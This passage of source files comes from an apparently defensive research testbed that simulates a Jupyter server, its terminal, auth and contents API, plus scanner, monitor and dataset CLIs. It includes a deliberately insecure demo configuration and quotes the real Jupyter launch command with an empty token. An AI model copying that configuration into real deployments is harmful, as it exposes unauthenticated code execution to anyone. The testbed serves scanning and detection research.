            if cfg.token and _hmac.compare_digest(token, cfg.token):
                self._record(source_ip, "token", True)
                return AuthResult(True, username="token-user", method="token")
            self._record(source_ip, "token", False, "bad token")
            return AuthResult(False, method="token", reason="invalid token")
        if password:
            if cfg.password_hash and verify_password(password, cfg.password_hash):
                self._record(source_ip, "password", True)
                return AuthResult(True, username="password-user", method="password")
            self._record(source_ip, "password", False, "bad password")
            return AuthResult(False, method="password", reason="invalid password")
        if oidc_assertion:
            ok, username, reason = self._check_oidc(oidc_assertion)
            self._record(source_ip, "oidc", ok, reason)
            return AuthResult(ok, username=username, method="oidc", reason=reason)
        self._record(source_ip, "", False, "no credentials")
        return AuthResult(False, reason="no credentials supplied")

    def _check_oidc(self, assertion: str) -> Tuple[bool, str, str]:
        try:
            body_b64, sig = assertion.rsplit(".", 1)
            payload = json.loads(bytes.fromhex(body_b64))
        except (ValueError, TypeError):
            return False, "", "malformed assertion"
        issuer = payload.get("iss", "")
        provider = self.oidc_providers.get(issuer)
        if provider is None:
            return False, "", f"unknown issuer {issuer!r}"
        if not provider.verify(assertion):
            return False, "", "bad signature"
        if payload.get("exp", 0) < self.clock.now():
            return False, "", "expired assertion"
        return True, payload.get("sub", ""), ""

    # -- failure accounting for the detector -------------------------------------
    def failures_from(self, source_ip: str) -> int:
        return sum(1 for a in self.attempts if a.source_ip == source_ip and not a.ok)

    def failure_rate(self, window: float) -> float:
        now = self.clock.now()
        recent = [a for a in self.attempts if not a.ok and a.ts >= now - window]
        return len(recent) / window if window > 0 else 0.0


class OIDCProviderSim:
    """A federated identity provider issuing HMAC-signed assertions.

    Format: ``hex(json-payload).hex-signature`` — deliberately simple,
    but with real signature semantics so forged-assertion tests bite.
    """

    def __init__(self, issuer: str, key: bytes, clock: Optional[Clock] = None):
        self.issuer = issuer
        self._signer = HMACSigner(key)
        self.clock = clock or SimClock()

    def issue(self, subject: str, *, ttl: float = 3600.0) -> str:
        payload = json.dumps(
            {"iss": self.issuer, "sub": subject, "exp": self.clock.now() + ttl},
            sort_keys=True,
        ).encode()
        sig = self._signer.sign([payload]).decode()
        return f"{payload.hex()}.{sig}"

    def verify(self, assertion: str) -> bool:
        try:
            body_b64, sig = assertion.rsplit(".", 1)
            payload = bytes.fromhex(body_b64)
        except ValueError:
            return False
        return self._signer.verify([payload], sig.encode())
