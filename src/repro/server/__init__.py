"""The simulated Jupyter server.

Faithful to the architecture in the paper's Fig. 2: external users speak
HTTP(S)+WebSocket to the server; the server speaks ZeroMQ (ZMTP over
loopback TCP) to kernels.  Every surface in the paper's attack-interface
list exists: the REST contents API (file browser), kernel channels
(arbitrary code execution), the terminal, and the auth layer (token,
password, OIDC-sim).

- :mod:`repro.server.config` — :class:`ServerConfig`, the artifact the
  misconfiguration scanner audits.
- :mod:`repro.server.auth` — authenticators and failure accounting.
- :mod:`repro.server.contents` — the ``/api/contents`` manager with
  checkpoints.
- :mod:`repro.server.terminal` — the terminal surface (audited mini-shell).
- :mod:`repro.server.zmtpbind` — kernel channel bindings over ZMTP.
- :mod:`repro.server.app` — the HTTP router tying it together.
- :mod:`repro.server.gateway` — simnet adapter: raw bytes ↔ app.
"""

from repro.server.app import JupyterServer
from repro.server.auth import AuthResult, Authenticator, OIDCProviderSim
from repro.server.config import ServerConfig
from repro.server.contents import ContentsManager
from repro.server.gateway import ServerGateway, WebSocketKernelClient

__all__ = [
    "JupyterServer",
    "ServerConfig",
    "Authenticator",
    "AuthResult",
    "OIDCProviderSim",
    "ContentsManager",
    "ServerGateway",
    "WebSocketKernelClient",
]
