"""The terminal attack surface: an audited mini-shell over the VFS.

Real Jupyter's terminado hands attackers a full login shell; the paper
lists it first among Jupyter's attack interfaces.  Our simulation
supports the command repertoire observed in real Jupyter intrusions
(recon, staging, download-and-run) with every invocation recorded, so
the audit experiments can flag terminal abuse patterns.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.util.clock import Clock, SimClock
from repro.vfs import VfsError, VirtualFS


@dataclass
class TerminalCommand:
    ts: float
    command: str
    exit_code: int
    output: str


class Terminal:
    """One terminal session."""

    def __init__(self, name: str, fs: VirtualFS, *, cwd: str = "home",
                 clock: Optional[Clock] = None, username: str = "scientist"):
        self.name = name
        self.fs = fs
        self.cwd = cwd
        self.clock = clock or SimClock()
        self.username = username
        self.history: List[TerminalCommand] = []
        self.listeners: List[Callable[[TerminalCommand], None]] = []

    def _resolve(self, path: str) -> str:
        if path.startswith("/"):
            return path.lstrip("/")
        return f"{self.cwd}/{path}" if self.cwd else path

    def run(self, command_line: str) -> Tuple[int, str]:
        """Execute one command; returns (exit_code, output)."""
        try:
            parts = shlex.split(command_line)
        except ValueError as e:
            return self._finish(command_line, 2, f"parse error: {e}")
        if not parts:
            return self._finish(command_line, 0, "")
        cmd, *args = parts
        handler = getattr(self, f"_cmd_{cmd.replace('-', '_')}", None)
        if handler is None:
            return self._finish(command_line, 127, f"{cmd}: command not found")
        try:
            code, out = handler(args)
        except VfsError as e:
            code, out = 1, str(e)
        return self._finish(command_line, code, out)

    def _finish(self, command_line: str, code: int, out: str) -> Tuple[int, str]:
        rec = TerminalCommand(self.clock.now(), command_line, code, out)
        self.history.append(rec)
        for fn in self.listeners:
            fn(rec)
        return code, out

    # -- command handlers -----------------------------------------------------
    def _cmd_ls(self, args: List[str]) -> Tuple[int, str]:
        path = self._resolve(args[0]) if args else self.cwd
        return 0, "\n".join(self.fs.listdir(path))

    def _cmd_pwd(self, args: List[str]) -> Tuple[int, str]:
        return 0, "/" + self.cwd

    def _cmd_cd(self, args: List[str]) -> Tuple[int, str]:
        target = self._resolve(args[0]) if args else "home"
        if not self.fs.is_dir(target):
            return 1, f"cd: no such directory: {args[0] if args else '~'}"
        self.cwd = target
        return 0, ""

    def _cmd_cat(self, args: List[str]) -> Tuple[int, str]:
        out = []
        for a in args:
            out.append(self.fs.read(self._resolve(a)).decode("utf-8", "replace"))
        return 0, "".join(out)

    def _cmd_echo(self, args: List[str]) -> Tuple[int, str]:
        return 0, " ".join(args)

    def _cmd_rm(self, args: List[str]) -> Tuple[int, str]:
        targets = [a for a in args if not a.startswith("-")]
        recursive = any(a in ("-r", "-rf", "-fr") for a in args)
        for t in targets:
            full = self._resolve(t)
            if recursive and self.fs.is_dir(full):
                for f in list(self.fs.walk(full)):
                    self.fs.delete(f)
            else:
                self.fs.delete(full)
        return 0, ""

    def _cmd_mv(self, args: List[str]) -> Tuple[int, str]:
        if len(args) != 2:
            return 2, "mv: usage: mv SRC DST"
        self.fs.rename(self._resolve(args[0]), self._resolve(args[1]))
        return 0, ""

    def _cmd_mkdir(self, args: List[str]) -> Tuple[int, str]:
        for a in args:
            if not a.startswith("-"):
                self.fs.mkdir(self._resolve(a))
        return 0, ""

    def _cmd_whoami(self, args: List[str]) -> Tuple[int, str]:
        return 0, self.username

    def _cmd_uname(self, args: List[str]) -> Tuple[int, str]:
        return 0, "Linux jupyter-node 5.15.0 x86_64 GNU/Linux"

    def _cmd_df(self, args: List[str]) -> Tuple[int, str]:
        used = self.fs.total_bytes()
        return 0, f"Filesystem     Used\nvfs      {used}"

    def _cmd_wget(self, args: List[str]) -> Tuple[int, str]:
        # Download attempts are the classic staging step; no network in the
        # terminal, but the attempt lands in the audit trail.
        url = args[-1] if args else ""
        return 4, f"wget: unable to resolve host address {url!r}"

    _cmd_curl = _cmd_wget

    def _cmd_nvidia_smi(self, args: List[str]) -> Tuple[int, str]:
        return 0, "GPU 0: A100-SXM4-40GB (UUID: GPU-sim)\nUtilization: 0%"

    def _cmd_history(self, args: List[str]) -> Tuple[int, str]:
        return 0, "\n".join(h.command for h in self.history)


class TerminalManager:
    """The ``/api/terminals`` table."""

    def __init__(self, fs: VirtualFS, clock: Optional[Clock] = None):
        self.fs = fs
        self.clock = clock or SimClock()
        self.terminals: Dict[str, Terminal] = {}
        self._counter = 0

    def create(self, *, username: str = "scientist") -> Terminal:
        self._counter += 1
        name = str(self._counter)
        term = Terminal(name, self.fs, clock=self.clock, username=username)
        self.terminals[name] = term
        return term

    def get(self, name: str) -> Optional[Terminal]:
        return self.terminals.get(name)

    def delete(self, name: str) -> bool:
        return self.terminals.pop(name, None) is not None

    def list_names(self) -> List[str]:
        return sorted(self.terminals)

    def all_commands(self) -> List[TerminalCommand]:
        out: List[TerminalCommand] = []
        for t in self.terminals.values():
            out.extend(t.history)
        return sorted(out, key=lambda c: c.ts)
