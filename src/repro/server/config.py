"""Server configuration — the object the misconfiguration scanner audits.

Field names track ``jupyter_server``'s traitlets so the scanner's checks
read like real hardening guidance (NASA HECC and the NVIDIA/AWS
assessment extensions the paper cites check the same knobs).
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional

from repro.util.ids import new_token


#: Versions with known CVEs the scanner recognises (shipped registry;
#: mirrors the CVE entries named in the paper and its references).
KNOWN_VULNERABLE_VERSIONS: Dict[str, List[str]] = {
    "6.4.11": ["CVE-2022-29238"],   # token bruteforce via missing auth on static
    "6.4.0": ["CVE-2022-24758", "CVE-2022-29238"],
    "5.7.8": ["CVE-2019-10856", "CVE-2019-9644"],
    "2021.8.0": ["CVE-2021-32798"],  # notebook XSS -> RCE
    "2020.10.0": ["CVE-2020-16977"],
    "2023.12.0": ["CVE-2024-22415"],
}

LATEST_VERSION = "7.2.1"


@dataclass
class ServerConfig:
    """Deployment configuration for one simulated Jupyter server."""

    # network exposure
    ip: str = "127.0.0.1"            # bind address; "0.0.0.0" exposes to the world
    port: int = 8888
    certfile: str = ""               # TLS cert; empty = plain HTTP
    keyfile: str = ""
    # authentication
    token: str = field(default_factory=new_token)  # "" disables token auth
    password_hash: str = ""          # pbkdf2 tagged hash; "" disables password auth
    password_required: bool = False
    allow_unauthenticated_access: bool = False
    # request hardening
    allow_origin: str = ""           # CORS; "*" is the dangerous wildcard
    allow_remote_access: bool = False
    disable_check_xsrf: bool = False
    rate_limit_window_seconds: float = 0.0   # 0 = no rate limiting
    rate_limit_max_requests: int = 0
    # execution hardening
    allow_root: bool = False
    terminals_enabled: bool = True
    session_key: bytes = field(default_factory=lambda: new_token(16).encode())
    signature_scheme: str = "hmac-sha256"
    notary_key: bytes = field(default_factory=lambda: new_token(16).encode())
    # provenance
    version: str = LATEST_VERSION
    root_dir: str = "home"
    server_name: str = "jupyter"

    # -- derived properties the scanner and server share ----------------------
    @property
    def tls_enabled(self) -> bool:
        return bool(self.certfile and self.keyfile)

    @property
    def auth_enabled(self) -> bool:
        return bool(self.token) or bool(self.password_hash)

    @property
    def publicly_bound(self) -> bool:
        return self.ip in ("0.0.0.0", "::")

    def known_cves(self) -> List[str]:
        return list(KNOWN_VULNERABLE_VERSIONS.get(self.version, []))

    def hardened_copy(self) -> "ServerConfig":
        """The remediated configuration the scanner's report recommends."""
        from repro.crypto.passwords import hash_password

        return replace(
            self,
            ip="127.0.0.1",
            certfile="/etc/jupyter/tls.crt",
            keyfile="/etc/jupyter/tls.key",
            token=new_token(),
            password_hash=self.password_hash or hash_password(new_token(12)),
            allow_unauthenticated_access=False,
            allow_origin="",
            disable_check_xsrf=False,
            allow_root=False,
            rate_limit_window_seconds=60.0,
            rate_limit_max_requests=600,
            version=LATEST_VERSION,
        )


def insecure_demo_config() -> ServerConfig:
    """The classic footgun deployment seen in internet-wide scans:
    ``jupyter notebook --ip=0.0.0.0 --NotebookApp.token=''``."""
    return ServerConfig(
        ip="0.0.0.0",
        token="",
        password_hash="",
        allow_unauthenticated_access=True,
        allow_origin="*",
        allow_root=True,
        disable_check_xsrf=True,
        version="6.4.0",
        session_key=b"",
    )
