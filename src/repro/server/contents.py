"""The contents manager behind ``/api/contents`` — Jupyter's file browser.

Models mirror the REST API: ``{name, path, type, content, format,
created, last_modified, writable}``.  Checkpoints give the ransomware
experiments a realistic recovery story (and the attack a realistic
target: mature ransomware deletes checkpoints first).
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Tuple

from repro.nbformat import Notebook, validate_notebook
from repro.util.errors import ValidationError
from repro.vfs import VfsError, VirtualFS


class ContentsError(VfsError):
    """Contents-level failure with an HTTP-ish status code."""

    def __init__(self, message: str, status: int = 400):
        super().__init__(message)
        self.status = status


CHECKPOINT_DIR = ".ipynb_checkpoints"


class ContentsManager:
    """CRUD over the virtual filesystem with notebook awareness."""

    def __init__(self, fs: VirtualFS, root: str = "home"):
        self.fs = fs
        self.root = root
        if not fs.is_dir(root):
            fs.mkdir(root)

    def _full(self, api_path: str) -> str:
        api_path = api_path.strip("/")
        return f"{self.root}/{api_path}" if api_path else self.root

    # -- read -------------------------------------------------------------------
    def get(self, api_path: str, *, include_content: bool = True) -> Dict[str, Any]:
        full = self._full(api_path)
        if self.fs.is_dir(full):
            return self._dir_model(api_path, include_content)
        if not self.fs.is_file(full):
            raise ContentsError(f"no such entity: {api_path!r}", status=404)
        raw = self.fs.read(full)
        entry = self.fs.stat(full)
        name = api_path.rsplit("/", 1)[-1]
        model: Dict[str, Any] = {
            "name": name,
            "path": api_path.strip("/"),
            "created": entry.created,
            "last_modified": entry.modified,
            "writable": entry.writable,
            "size": len(raw),
        }
        if name.endswith(".ipynb"):
            model["type"] = "notebook"
            model["format"] = "json" if include_content else None
            model["content"] = json.loads(raw) if include_content else None
        else:
            model["type"] = "file"
            text: Optional[str]
            try:
                text = raw.decode("utf-8")
                # NUL and most C0 controls are valid UTF-8 but mark binary data.
                if any(b < 9 for b in raw):
                    text = None
            except UnicodeDecodeError:
                text = None
            if text is not None:
                model["format"] = "text" if include_content else None
                model["content"] = text if include_content else None
            else:
                model["format"] = "base64" if include_content else None
                model["content"] = base64.b64encode(raw).decode() if include_content else None
        return model

    def _dir_model(self, api_path: str, include_content: bool) -> Dict[str, Any]:
        full = self._full(api_path)
        entries = []
        if include_content:
            for name in self.fs.listdir(full):
                if name == CHECKPOINT_DIR:
                    continue
                child = f"{api_path.strip('/')}/{name}".strip("/")
                entries.append(self.get(child, include_content=False))
        return {
            "name": api_path.strip("/").rsplit("/", 1)[-1],
            "path": api_path.strip("/"),
            "type": "directory",
            "format": "json" if include_content else None,
            "content": entries if include_content else None,
            "writable": True,
        }

    # -- write ------------------------------------------------------------------
    def save(self, api_path: str, model: Dict[str, Any]) -> Dict[str, Any]:
        full = self._full(api_path)
        mtype = model.get("type", "file")
        if mtype == "directory":
            self.fs.mkdir(full)
            return self.get(api_path, include_content=False)
        content = model.get("content")
        if mtype == "notebook":
            problems = validate_notebook(content if isinstance(content, dict) else {})
            if problems:
                raise ContentsError(f"invalid notebook: {problems[0]}", status=400)
            raw = json.dumps(content, sort_keys=True).encode()
        elif model.get("format") == "base64":
            try:
                raw = base64.b64decode(str(content), validate=True)
            except Exception:
                raise ContentsError("invalid base64 content", status=400) from None
        else:
            raw = str(content if content is not None else "").encode()
        try:
            self.fs.write(full, raw)
        except VfsError as e:
            raise ContentsError(str(e), status=403) from None
        return self.get(api_path, include_content=False)

    def delete(self, api_path: str) -> None:
        try:
            self.fs.delete(self._full(api_path))
        except VfsError as e:
            raise ContentsError(str(e), status=404) from None

    def rename(self, old_path: str, new_path: str) -> Dict[str, Any]:
        try:
            self.fs.rename(self._full(old_path), self._full(new_path))
        except VfsError as e:
            raise ContentsError(str(e), status=409) from None
        return self.get(new_path, include_content=False)

    # -- checkpoints ---------------------------------------------------------------
    def _checkpoint_path(self, api_path: str, checkpoint_id: str) -> str:
        api_path = api_path.strip("/")
        parent, _, name = api_path.rpartition("/")
        prefix = f"{parent}/" if parent else ""
        return self._full(f"{prefix}{CHECKPOINT_DIR}/{name}.{checkpoint_id}")

    def create_checkpoint(self, api_path: str, checkpoint_id: str = "0") -> Dict[str, Any]:
        full = self._full(api_path)
        if not self.fs.is_file(full):
            raise ContentsError(f"no such file: {api_path!r}", status=404)
        cp = self._checkpoint_path(api_path, checkpoint_id)
        self.fs.write(cp, self.fs.read(full))
        return {"id": checkpoint_id, "last_modified": self.fs.stat(cp).modified}

    def restore_checkpoint(self, api_path: str, checkpoint_id: str = "0") -> None:
        cp = self._checkpoint_path(api_path, checkpoint_id)
        if not self.fs.is_file(cp):
            raise ContentsError(f"no checkpoint {checkpoint_id!r} for {api_path!r}", status=404)
        self.fs.write(self._full(api_path), self.fs.read(cp))

    def list_checkpoints(self, api_path: str) -> List[Dict[str, Any]]:
        api_path = api_path.strip("/")
        parent, _, name = api_path.rpartition("/")
        prefix = f"{parent}/" if parent else ""
        cp_dir = self._full(f"{prefix}{CHECKPOINT_DIR}")
        if not self.fs.is_dir(cp_dir):
            return []
        out = []
        for entry in self.fs.listdir(cp_dir):
            if entry.startswith(name + "."):
                cp_id = entry[len(name) + 1 :]
                full = f"{cp_dir}/{entry}"
                out.append({"id": cp_id, "last_modified": self.fs.stat(full).modified})
        return out

    def delete_checkpoint(self, api_path: str, checkpoint_id: str) -> None:
        cp = self._checkpoint_path(api_path, checkpoint_id)
        try:
            self.fs.delete(cp)
        except VfsError as e:
            raise ContentsError(str(e), status=404) from None

    # -- notebook helpers ------------------------------------------------------------
    def get_notebook(self, api_path: str) -> Notebook:
        model = self.get(api_path)
        if model["type"] != "notebook":
            raise ContentsError(f"{api_path!r} is not a notebook", status=400)
        return Notebook.from_dict(model["content"])

    def save_notebook(self, api_path: str, nb: Notebook) -> Dict[str, Any]:
        return self.save(api_path, {"type": "notebook", "content": nb.to_dict()})
