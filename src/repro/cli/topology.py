"""``repro topology``: inspect, smoke-test, and matrix-run topologies.

Three modes:

- ``--list``   — registered ``WorldSpec`` presets with their shapes.
- ``--smoke``  — build every preset and run one quickstart attack on
  each (the CI ``topology-smoke`` job); non-zero exit on any failure.
- ``--matrix`` — run the campaign matrix: topologies × objectives with
  per-cell detection/success/abort rates.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Dict, List, Optional

from repro.attacks.campaign import TopologyMatrixRunner
from repro.attacks.takeover import StolenTokenAttack
from repro.topology import WorldBuilder, list_presets, spec_preset

#: Small-world overrides per preset so smoke/matrix runs stay fast.
SMALL: Dict[str, Dict] = {
    "single-server": {},
    "hub": {"n_tenants": 2},
    "sharded-hub": {"n_shards": 3, "n_tenants": 6},
    "honeypot-hub": {"n_tenants": 2},
    "sharded-honeypot-hub": {"n_shards": 3, "n_tenants": 6},
    "sharded-hub-geo": {"n_tenants": 6},
    "defended-hub": {"n_tenants": 2},
    "defended-sharded-hub": {"n_shards": 3, "n_tenants": 6},
    "defended-honeypot-hub": {"n_tenants": 2},
}


def _spec_shape(name: str) -> str:
    spec = spec_preset(name)  # the preset's real defaults, not SMALL
    if spec.server is not None:
        return "1 server"
    hub = spec.hub
    assert hub is not None
    parts = [f"{hub.n_tenants} tenants"]
    parts.append(f"{len(hub.shards) or 1} front door(s)")
    if hub.decoy_tenants:
        parts.append(f"{len(hub.decoy_tenants)} decoy tenant(s)")
    if spec.links:
        parts.append(f"{len(spec.links)} latency link(s)")
    if spec.defended:
        parts.append("automated response")
    return ", ".join(parts)


def smoke(*, seed: int = 1337, out=None) -> int:
    """Build every registered preset and run one quickstart attack."""
    out = out or sys.stdout
    builder = WorldBuilder()
    failures = 0
    for name in list_presets():
        try:
            spec = spec_preset(name, seed=seed, **SMALL.get(name, {}))
            scenario = builder.build(spec)
            result = StolenTokenAttack().run(scenario)
            scenario.run(10.0)
            notices = sorted({n.name for n in scenario.monitor.logs.notices})
            status = "ok" if result.success else "FAIL(attack)"
            if not result.success:
                failures += 1
            print(f"  {name:<14} {status:<12} notices={','.join(notices) or '-'}",
                  file=out)
        except Exception as e:  # a preset that cannot build is a failure
            failures += 1
            print(f"  {name:<14} FAIL(build)   {type(e).__name__}: {e}", file=out)
    return failures


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-topology",
        description="List, smoke-test, or matrix-run the registered world topologies")
    mode = parser.add_mutually_exclusive_group(required=True)
    mode.add_argument("--list", action="store_true", help="list registered presets")
    mode.add_argument("--smoke", action="store_true",
                      help="build every preset and run one quickstart attack")
    mode.add_argument("--matrix", action="store_true",
                      help="run the topology x objective campaign matrix")
    parser.add_argument("--topologies", nargs="*", default=None,
                        help="subset of presets for --matrix (default: all)")
    parser.add_argument("--campaigns", type=int, default=2,
                        help="campaigns per matrix cell")
    parser.add_argument("--seed", type=int, default=1337)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)

    if args.list:
        payload = {name: _spec_shape(name) for name in list_presets()}
        if args.json:
            print(json.dumps(payload, indent=2))
        else:
            for name, shape in payload.items():
                print(f"  {name:<14} {shape}")
        return 0

    if args.smoke:
        print("topology smoke: one quickstart attack per preset")
        failures = smoke(seed=args.seed)
        print(f"topology smoke: {'PASS' if failures == 0 else f'{failures} FAILURES'}")
        return 1 if failures else 0

    names = args.topologies or list_presets()
    unknown = [n for n in names if n not in list_presets()]
    if unknown:
        parser.error(f"unknown presets: {', '.join(unknown)}")
    topologies = {name: spec_preset(name, **SMALL.get(name, {})) for name in names}
    report = TopologyMatrixRunner(
        topologies, campaigns_per_cell=args.campaigns,
        base_seed=args.seed).run()
    if args.json:
        print(json.dumps({"cells": report.to_dict(),
                          "by_topology": report.by_topology()}, indent=2))
    else:
        print(report.render())
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
