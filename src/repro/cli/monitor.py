"""``repro-monitor``: run a monitored scenario and dump the logs."""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.attacks import CryptominingAttack, ExfiltrationAttack, TokenBruteforceAttack
from repro.attacks.scenario import build_scenario
from repro.monitor import AnalyzerDepth
from repro.taxonomy.render import render_table
from repro.workload import ScientistWorkload


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-monitor",
        description="Run the Jupyter network monitor against a mixed benign/attack scenario",
    )
    parser.add_argument("--depth", choices=[d.name.lower() for d in AnalyzerDepth],
                        default="jupyter")
    parser.add_argument("--seed", type=int, default=1337)
    parser.add_argument("--with-attacks", action="store_true")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)

    depth = AnalyzerDepth[args.depth.upper()]
    scenario = build_scenario(seed=args.seed, depth=depth)
    ScientistWorkload(scenario, username="alice").run_session(cells=5)
    if args.with_attacks:
        TokenBruteforceAttack(delay=0.3).run(scenario)
        ExfiltrationAttack().run(scenario)
        CryptominingAttack(rounds=5, hashes_per_round=200).run(scenario)
    scenario.run(30.0)

    summary = scenario.monitor.summary()
    if args.json:
        print(json.dumps(summary, indent=2, default=str))
        return 0
    print(f"analyzer depth: {summary['depth']}")
    print(render_table(
        [(k, v) for k, v in summary["logs"].items()], ["log family", "records"]))
    print("notices:")
    for notice in scenario.monitor.logs.notices:
        avenue = notice.avenue.value if notice.avenue else "-"
        print(f"  t={notice.ts:9.2f}  {notice.severity:8s} {notice.name:28s} "
              f"src={notice.src:15s} [{avenue}]")
    if not scenario.monitor.logs.notices:
        print("  (none)")
    health = summary["health"]
    print(f"health: {health['segments']} segments, {health['dropped']} dropped, "
          f"{health['parse_errors']} parse errors")
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
