"""``repro-scan``: audit server configurations."""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.misconfig import MisconfigScanner
from repro.server.config import ServerConfig, insecure_demo_config


def config_from_json(text: str) -> ServerConfig:
    """Build a ServerConfig from a JSON object of overrides."""
    data = json.loads(text)
    cfg = ServerConfig()
    for key, value in data.items():
        if not hasattr(cfg, key):
            raise SystemExit(f"unknown config field: {key!r}")
        if key in ("session_key", "notary_key") and isinstance(value, str):
            value = value.encode()
        setattr(cfg, key, value)
    return cfg


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(prog="repro-scan",
                                     description="Jupyter misconfiguration scanner")
    parser.add_argument("--config", help="path to a JSON config-override file")
    parser.add_argument("--profile", choices=["default", "insecure-demo", "hardened"],
                        default="insecure-demo", help="built-in profile to scan")
    parser.add_argument("--json", action="store_true", help="machine-readable output")
    args = parser.parse_args(argv)

    if args.config:
        with open(args.config) as fh:
            cfg = config_from_json(fh.read())
    elif args.profile == "default":
        cfg = ServerConfig()
    elif args.profile == "hardened":
        cfg = insecure_demo_config().hardened_copy()
    else:
        cfg = insecure_demo_config()

    report = MisconfigScanner().scan(cfg)
    if args.json:
        print(json.dumps({
            "server": report.server_name,
            "grade": report.grade,
            "risk_score": report.risk_score,
            "failures": [
                {"id": r.check_id, "title": r.title, "severity": r.severity.value,
                 "finding": r.finding, "remediation": r.remediation}
                for r in report.failures
            ],
        }, indent=2))
    else:
        print(report.render())
    return 0 if report.grade in ("A", "B") else 1


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
