"""``repro-dataset``: build and export the labeled security corpus."""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.attacks import (
    CryptominingAttack,
    ExfiltrationAttack,
    RansomwareAttack,
    TokenBruteforceAttack,
)
from repro.dataset import AnonymizationPolicy, Anonymizer, DatasetBuilder, k_anonymity
from repro.dataset.anonymize import reidentification_risk

ATTACK_MIXES = {
    "none": [],
    "standard": lambda: [TokenBruteforceAttack(delay=0.3),
                         ExfiltrationAttack(),
                         CryptominingAttack(rounds=5, hashes_per_round=200)],
    "full": lambda: [TokenBruteforceAttack(delay=0.3),
                     ExfiltrationAttack(),
                     CryptominingAttack(rounds=5, hashes_per_round=200),
                     RansomwareAttack(via="rest")],
}


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(prog="repro-dataset",
                                     description="Build the Jupyter Security & Resiliency Data Set")
    parser.add_argument("--out", default="-", help="output JSONL path ('-' = stdout)")
    parser.add_argument("--seed", type=int, default=2024)
    parser.add_argument("--benign-sessions", type=int, default=2)
    parser.add_argument("--attacks", choices=sorted(ATTACK_MIXES), default="standard")
    parser.add_argument("--anonymize", choices=["none", "default", "maximal"],
                        default="default")
    parser.add_argument("--stats", action="store_true", help="print corpus stats to stderr")
    args = parser.parse_args(argv)

    mix = ATTACK_MIXES[args.attacks]
    attacks = mix() if callable(mix) else list(mix)
    builder = DatasetBuilder(seed=args.seed, benign_sessions=args.benign_sessions)
    records = builder.build(attacks)

    if args.anonymize != "none":
        policy = (AnonymizationPolicy.maximal() if args.anonymize == "maximal"
                  else AnonymizationPolicy())
        records = Anonymizer(policy).anonymize(records)

    text = DatasetBuilder.export_jsonl(records)
    if args.out == "-":
        print(text)
    else:
        with open(args.out, "w") as fh:
            fh.write(text + "\n")

    if args.stats:
        stats = DatasetBuilder.summary(records)
        stats["k_anonymity"] = k_anonymity(records)
        stats["reidentification_risk_k5"] = round(reidentification_risk(records), 4)
        print(json.dumps(stats, indent=2), file=sys.stderr)
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
