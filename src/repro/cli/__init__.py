"""Command-line tools.

One umbrella command plus six dedicated entry points (installed via
``setup.py``):

- ``repro <subcommand>`` — umbrella dispatcher over all of the below.
- ``repro-scan`` — misconfiguration scanner over a config JSON or the
  built-in profiles.
- ``repro-taxonomy`` — render Fig. 1 / Fig. 3 / Table 1.
- ``repro-attack`` — run one attack against a fresh scenario and print
  the attack's result plus what the defenders saw.
- ``repro-dataset`` — build and export a labeled, optionally anonymized
  corpus.
- ``repro-monitor`` — replay a corpus-driven scenario and print the
  monitor's logs/notices summary.
- ``repro-hub`` — run a fleet-scale multi-tenant hub scenario (proxy,
  spawner, culler, cross-tenant campaign).
"""
