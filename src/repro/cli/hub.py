"""``repro-hub`` / ``repro hub``: run a fleet-scale hub scenario.

Stands up the multi-tenant testbed (reverse proxy + N per-user servers),
drives benign tenant sessions, optionally launches the cross-tenant
pivot campaign, and prints what the hub saw: routing counters, culler
activity, the hub misconfiguration scan, and monitor notices from the
proxy tap.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.attacks.hubpivot import CrossTenantPivotAttack
from repro.hub import HubConfig, build_hub_scenario, insecure_hub_config
from repro.misconfig import MisconfigScanner
from repro.workload import ScientistWorkload


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-hub",
        description="Run a multi-tenant hub scenario: proxy, spawner, culler, attack")
    parser.add_argument("--tenants", type=int, default=8)
    parser.add_argument("--insecure-hub", action="store_true",
                        help="open signup, shared token, proxy auth off, no culling")
    parser.add_argument("--attack", action="store_true",
                        help="launch the cross-tenant pivot campaign")
    parser.add_argument("--workload-tenants", type=int, default=2,
                        help="how many tenants run a benign session first")
    parser.add_argument("--cells", type=int, default=4)
    parser.add_argument("--idle", type=float, default=0.0,
                        help="extra idle sim-seconds at the end (exercises the culler)")
    parser.add_argument("--seed", type=int, default=1337)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)
    if args.tenants < 1:
        parser.error("--tenants must be >= 1")

    hub_config = insecure_hub_config() if args.insecure_hub else HubConfig(
        api_token="cli-hub-token", max_servers=max(args.tenants + 8, 64),
        cull_idle_timeout=300.0, cull_interval=60.0)
    scenario = build_hub_scenario(n_tenants=args.tenants, hub_config=hub_config,
                                  seed=args.seed)

    workloads = []
    for name in scenario.tenant_names[: max(0, args.workload_tenants)]:
        report = ScientistWorkload(scenario, username=name).run_session(cells=args.cells)
        workloads.append({"tenant": name, "cells": report.cells_executed,
                          "errors": report.errors})

    attack_payload = None
    if args.attack:
        result = CrossTenantPivotAttack().run(scenario)
        attack_payload = {
            "attack": result.attack,
            "success": result.success,
            "narrative": result.narrative,
            "metrics": result.metrics,
        }
    if args.idle > 0:
        scenario.run(args.idle)
    scenario.run(5.0)

    scan = MisconfigScanner().scan_hub(scenario.hub_config)
    payload = {
